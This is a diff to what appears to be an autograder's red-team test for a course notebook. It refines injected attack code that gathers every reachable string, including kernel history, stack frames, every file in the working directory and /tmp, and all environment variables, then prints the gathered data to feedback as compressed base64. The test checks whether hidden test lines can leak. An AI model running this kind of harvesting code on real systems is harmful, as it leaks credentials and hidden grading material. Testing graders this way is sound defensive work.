@@ -36,7 +36,7 @@ ASSIGNMENTS = [a for a in ("ch04_self_attention",) if a in assignments(REPO_ROOT
 PAYLOAD_MARK = Path("/tmp/course-hidden-attack-payload-ran")
 
 # Defined first in the first answer cell: `_called_by_tests()` is True when a hidden check (or a
-# hidden test in the kernel, as before the checker) is the caller; `_reach(...)` collects text.
+# hidden test in the kernel, as before the checker) is the caller; `_each_text()` walks what it can reach.
 PRELUDE = r'''
 import base64 as _b64, gc as _gc, inspect as _inspect, linecache as _linecache, os as _os, sys as _sys, zlib as _zlib
 _LOOT = []
@@ -51,35 +51,40 @@ def _In_len():
     return len([c for c in globals().get("_ih", []) if "BEGIN HIDDEN" in c or "_reference" in c])
 
 
-def _texts():
-    """Every string this kernel can reach."""
-    found = [str(globals().get("In", "")), str(globals().get("_ih", "")), str(globals().get("Out", ""))]
-    found += ["".join(lines) for _, _, lines, _ in list(_linecache.cache.values()) if isinstance(lines, list)]
+def _each_text():
+    """Every string this kernel can reach, one at a time (a list of them all runs out of memory)."""
+    yield "\n".join(globals().get("In", []))
+    yield "\n".join(globals().get("_ih", []))
+    yield str(globals().get("Out", ""))
+    for _, _, lines, _ in list(_linecache.cache.values()):
+        if isinstance(lines, list):
+            yield "".join(lines)
     for frame in _inspect.stack():
-        found += ["".join(frame.code_context or [])]
-        found += [repr(v)[:10000] for v in list(frame.frame.f_locals.values()) + list(frame.frame.f_globals.values())]
+        yield "".join(frame.code_context or [])
+        for v in list(frame.frame.f_locals.values()) + list(frame.frame.f_globals.values()):
+            if isinstance(v, (str, list, tuple, dict)) and len(v) < 10_000:
+                yield repr(v)
     for obj in _gc.get_objects():
-        if isinstance(obj, type(_texts.__code__)):
-            found += [c for c in obj.co_consts if isinstance(c, str)]
+        if isinstance(obj, type(_each_text.__code__)):
+            yield from (c for c in obj.co_consts if isinstance(c, str))
         elif isinstance(obj, dict):
-            found += [v for v in list(obj.values()) if isinstance(v, str)]
+            yield from (v for v in list(obj.values()) if isinstance(v, str))
         elif isinstance(obj, (list, tuple)):
-            found += [v for v in list(obj) if isinstance(v, str)]
+            yield from (v for v in list(obj) if isinstance(v, str))
     for top in (_os.getcwd(), "/tmp"):
         for root, _, files in _os.walk(top):
             for name in files:
                 try:
                     with open(_os.path.join(root, name), encoding="utf-8", errors="ignore") as handle:
-                        found.append(handle.read(2_000_000))
+                        yield handle.read(2_000_000)
                 except OSError:
                     pass
-    found += [f"{k}={v}" for k, v in _os.environ.items()]
-    return found
+    yield from (f"{k}={v}" for k, v in _os.environ.items())
 
 
 def _grab():
     if not _LOOT:  # once: a walk of everything takes a while
-        _LOOT.extend(_texts())
+        _LOOT.extend(dict.fromkeys(t for t in _each_text() if len(t) < 1_000_000))
 
 
 def _corrupt(value, tensor):
@@ -105,10 +110,15 @@ def _hijack(default):
 
 # Appended to the notebook: prints what it reached, compressed and base64 (to the feedback).
 LAST_CELL = r'''
-_blob = "\n".join(dict.fromkeys(str(t)[:200_000] for t in [*_texts(), *_LOOT]))[:30_000_000]
-print("LOOT", _b64.b64encode(_zlib.compress(_blob.encode("utf-8", "ignore"))).decode())
 print("HISTORY", _b64.b64encode("\n".join(In).encode()).decode())
 print("HEX", "\n".join(In).encode().hex())
+_seen, _size, _parts = set(), 0, []
+for _text in [*_LOOT, *_each_text()]:
+    if _text not in _seen and _size < 20_000_000:
+        _seen.add(_text)
+        _parts.append(_text[:200_000])
+        _size += len(_parts[-1])
+print("LOOT", _b64.b64encode(_zlib.compress("\n".join(_parts).encode("utf-8", "ignore"))).decode())
 '''
 
 # Checks every string the kernel reached against the hashes of the hidden lines (filled in).
@@ -116,7 +126,7 @@ DUMP_CELL = r'''
 import hashlib as _hashlib
 _SECRET = set(%r)
 _seen = set()
-for _text in [*_texts(), *_LOOT]:
+for _text in [*_LOOT, *_each_text()]:
     for _line in str(_text).splitlines():
         _digest = _hashlib.sha256(_line.strip().encode()).hexdigest()
         if _digest in _SECRET:
